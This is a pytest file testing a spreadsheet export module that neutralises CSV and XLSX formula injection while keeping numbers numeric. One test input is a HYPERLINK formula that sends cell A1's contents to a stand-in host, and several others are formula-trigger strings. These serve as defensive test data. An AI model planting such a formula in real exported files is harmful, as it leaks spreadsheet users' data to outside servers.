"""The one writer of spreadsheet files (styrkraft.core.spreadsheet): no text cell it writes can be read
as a formula, and a number stays a number."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from styrkraft.core import spreadsheet

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+46 21 39 00 00", "'+46 21 39 00 00"),
        ("-5,2", "'-5,2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Andel som cyklar", "Andel som cyklar"),
        ("Andel = mål", "Andel = mål"),
        ("", ""),
    ],
)
def test_safe_text_quotes_what_a_spreadsheet_reads_as_a_formula(text, written):
    assert spreadsheet.safe_text(text) == written


def test_csv_cells_keep_numbers_as_numbers_and_quote_formula_text():
    assert [
        spreadsheet.csv_cell(v)
        for v in (Decimal("-5.20"), Decimal("100"), -3, 12.5, None, datetime.date(2024, 1, 2), "-5,2")
    ] == ["-5,2", "100", "-3", "12,5", "", "2024-01-02", "'-5,2"]


def test_csv_bytes_is_swedish_excel_csv_with_every_text_cell_made_safe():
    data = spreadsheet.csv_bytes(["titel", "värde"], [[HYPERLINK, Decimal("-5.2")], ["@x;y", None]])
    assert data.decode("utf-8") == (
        '\ufefftitel;värde\r\n"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""Klicka"")";-5,2\r\n'
        '"\'@x;y";\r\n'
    )


def test_xlsx_bytes_writes_text_as_text_and_numbers_as_numbers():
    data = spreadsheet.xlsx_bytes(["titel", "värde"], [[HYPERLINK, Decimal("-5.2")], ["=1+1", -3]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells == [
        [("titel", "s"), ("värde", "s")],
        [("'" + HYPERLINK, "s"), (-5.2, "n")],
        [("'=1+1", "s"), (-3, "n")],
    ]


def test_xlsx_response_is_an_attachment():
    response = spreadsheet.xlsx_response("mall.xlsx", ["år"], [[2024]])
    assert (response["Content-Type"], response["Content-Disposition"]) == (
        spreadsheet.XLSX_CONTENT_TYPE,
        'attachment; filename="mall.xlsx"',
    )
